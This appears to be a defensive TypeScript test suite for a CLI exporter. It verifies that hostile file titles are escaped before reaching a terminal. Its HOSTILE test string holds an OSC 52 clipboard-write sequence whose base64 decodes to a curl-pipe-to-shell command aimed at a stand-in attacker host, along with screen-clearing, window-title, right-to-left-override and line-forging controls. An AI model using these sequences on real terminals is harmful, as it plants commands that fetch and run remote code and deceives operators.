// Anyone who can create files in an exported room chooses their titles. A title carrying OSC 52
// (writes the operator's clipboard), OSC 0 (sets the window title), CSI 2J (clears the screen), a C1
// CSI, a right-to-left override or a newline must reach the terminal as visible text, never as a
// control: through the real CLI process (JSON on stdout, text on stderr) and through the people
// mode a terminal gets (run in-process with a TTY-like stderr, against the same emulators).

/* eslint-disable no-control-regex -- control characters are exactly what these tests look for */

import { PassThrough } from "node:stream";
import { run } from "../../../src/cli/run";
import { fileEvents, startCliHarness, summaryOf, type CliHarness } from "./harness";

const HOSTILE =
  "pay\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07roll\x1b]0;owned\x07\x1b[2J\u009b31m\u202egpj.exe\nFAILED forged";

/** What a terminal acts on: C0 controls, DEL, C1 controls, bidirectional controls. */
const ACTIVE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
/** The same, except the line feeds that end the CLI's own lines. */
const ACTIVE_BUT_NEWLINE =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

let h: CliHarness;
let roomId: number | string;
let secretId: number | string;
beforeAll(async () => {
  h = await startCliHarness();
  roomId = h.docspace.addRoom({ title: `Room ${HOSTILE}` }).id;
  h.docspace.addFile({ folderId: roomId, title: `${HOSTILE}.docx`, size: 2_000 });
  // The user may not download this one, so its title lands in a failure line.
  secretId = h.docspace.addFile({
    folderId: roomId,
    title: `${HOSTILE} secret.docx`,
    size: 1_000,
    denyDownload: true,
  }).id;
});
afterAll(async () => {
  await h.close();
});

test("the CLI process: JSON lines carry the exact titles with every control escaped, stderr none", async () => {
  const result = await h.run(["export", `room:${String(roomId)}`, "--portal", h.docspace.url, "--to", "/T"]);
  expect(result.code).toBe(1);
  expect(result.stdout).not.toMatch(ACTIVE_BUT_NEWLINE);
  expect(result.stdout.split("\n").every((line) => !ACTIVE.test(line))).toBe(true);
  expect(result.stderr).not.toMatch(ACTIVE_BUT_NEWLINE);
  const [failed] = fileEvents(result, "failed");
  // The data itself is intact for scripts: JSON escapes decode to the original title.
  expect(failed).toMatchObject({ id: secretId, title: `${HOSTILE} secret.docx` });
  expect(summaryOf(result)).toMatchObject({ failed: 1 });
});

test("a terminal: the failure line and every other line show the controls as text", async () => {
  const text = { stdout: "", stderr: "" };
  const code = await run(
    ["export", `room:${String(roomId)}`, "--portal", h.docspace.url, "--to", "/People"],
    {
      env: h.env(),
      stdin: new PassThrough(),
      stdout: { write: (chunk: string) => (text.stdout += chunk) },
      stderr: { isTTY: true, columns: 200, write: (chunk: string) => (text.stderr += chunk) },
    },
  );
  expect(code).toBe(1);
  // The only control sequence on stderr is the progress bar's own carriage return + erase line.
  const withoutRedraws = text.stderr.split("\r\x1b[K").join("");
  expect(withoutRedraws).not.toMatch(ACTIVE_BUT_NEWLINE);
  expect(text.stdout).not.toMatch(ACTIVE_BUT_NEWLINE);
  // Each redraw starts a fresh terminal line, like a line feed.
  const lines = text.stderr.split(/\r\x1b\[K|\n/u);
  const failure = lines.find((line) => line.startsWith("FAILED "));
  expect(failure).toContain(
    "pay\\x1B]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07roll\\x1B]0;owned\\x07\\x1B[2J\\x9B31m",
  );
  expect(failure).toContain("\\u202Egpj.exe\\x0AFAILED forged secret.docx");
  // The newline in the title forged no line of its own.
  expect(lines.filter((line) => line.startsWith("FAILED forged"))).toEqual([]);
  expect(h.secrets.size).toBeGreaterThan(0);
  for (const secret of h.secrets) expect(text.stderr + text.stdout).not.toContain(secret);
});

test("a terminal with --skip-forbidden: the note naming the skipped file shows its controls as text", async () => {
  const text = { stdout: "", stderr: "" };
  const code = await run(
    ["export", `room:${String(roomId)}`, "--portal", h.docspace.url, "--to", "/Skipping", "--skip-forbidden"],
    {
      env: h.env(),
      stdin: new PassThrough(),
      stdout: { write: (chunk: string) => (text.stdout += chunk) },
      stderr: { isTTY: true, columns: 200, write: (chunk: string) => (text.stderr += chunk) },
    },
  );
  expect(code).toBe(0);
  expect(text.stderr.split("\r\x1b[K").join("")).not.toMatch(ACTIVE_BUT_NEWLINE);
  expect(text.stdout).not.toMatch(ACTIVE_BUT_NEWLINE);
  // Each redraw starts a fresh terminal line, like a line feed.
  const lines = `${text.stdout}\n${text.stderr}`.split(/\r\x1b\[K|\n/u);
  const note = lines.find((line) => line.startsWith("skipped "));
  expect(note).toContain("\\u202Egpj.exe\\x0AFAILED forged secret.docx: the API key's user may not");
  expect(lines.filter((line) => line.startsWith("FAILED forged"))).toEqual([]);
});
